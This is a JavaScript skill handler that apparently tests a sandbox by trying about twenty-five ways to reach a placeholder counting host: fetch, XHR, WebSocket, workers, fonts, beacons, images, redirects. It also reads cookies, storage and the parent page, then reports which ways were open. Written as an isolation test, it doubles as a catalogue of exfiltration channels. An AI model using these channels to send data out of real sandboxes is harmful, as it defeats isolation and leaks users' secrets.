// A skill's script that tries every way out of its room, and says which were open. OTHER is a host that counts, OWN the page's,
// PATIENCE the milliseconds after which a way that says nothing counts as closed; all are tried at once.
async function handler() {
  const [other, own] = ["OTHER", "OWN"];
  const url = (way, host = other) => `${host}/leak/${way}?secret=1`;
  const told = (it, yes, no) => new Promise((resolve, reject) => { it[yes] = resolve; it[no] = () => reject(new Error("refused")); });
  const request = (way) => { const x = new XMLHttpRequest(); x.open("POST", url(way)); x.send("x"); return told(x, "onload", "onerror"); };
  const inner = (text) => {
    const worker = new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));
    return told(worker, "onmessage", "onerror");
  };
  const ways = {
    fetch: () => fetch(url("fetch"), { method: "POST", body: "x", mode: "no-cors" }),
    keepalive: () => fetch(url("keepalive"), { method: "POST", body: "x", mode: "no-cors", keepalive: true }),
    home: () => fetch(url("home", own), { mode: "no-cors" }),
    xhr: () => request("xhr"),
    socket: () => told(new WebSocket(url("socket").replace("http", "ws")), "onopen", "onerror"),
    events: () => told(new EventSource(url("events")), "onopen", "onerror"),
    scripts: () => importScripts(url("scripts")),
    known: () => importScripts(`${own}/script-room.js?secret=1`),
    module: () => import(url("module")),
    inline: () => import("data:text/javascript,export default 1"),
    evaluate: () => (0, eval)("1"),
    worker: () => inner(`fetch("${url("worker")}", { mode: "no-cors" }).then(() => postMessage(1), () => setTimeout(() => { throw 1; }))`),
    far: () => told(new Worker(url("far")), "onmessage", "onerror"),
    font: () => new FontFace("leak", `url(${url("font")})`).load(),
    transport: () => new WebTransport(url("transport").replace("http", "https")).ready,
    beacon: () => navigator.sendBeacon(url("beacon"), "x") || Promise.reject(new Error("refused")),
    image: () => { new Image().src = url("image"); },
    opened: () => { open(url("opened")); },
    indexed: () => { const asked = indexedDB.open("hearsay"); return told(asked, "onsuccess", "onerror"); },
    caches: () => caches.open("leak"),
    folder: () => navigator.storage.getDirectory(),
    cookies: () => cookieStore.getAll(),
    local: () => localStorage.length,
    locks: () => navigator.locks.request("leak", () => 1),
    top: () => parent.document.title,
  };
  const reached = [];
  const late = new Promise((_, reject) => setTimeout(() => reject(new Error("nothing came")), PATIENCE));
  await Promise.all(Object.entries(ways).map(([way, attempt]) =>
    Promise.race([Promise.resolve().then(attempt), late]).then(() => reached.push(way), () => {})));
  // These two tell nobody whether they arrived: whoever listens does.
  new BroadcastChannel("leak").postMessage("secret");
  try { self.location.href = url("location"); } catch { /* it may also throw */ }
  return { version: "1.0", response: {
    outputSpeech: { type: "PlainText", text: `Tried ${Object.keys(ways).length} ways, open: ${reached.join(", ") || "none"}.` },
    shouldEndSession: true,
  } };
}
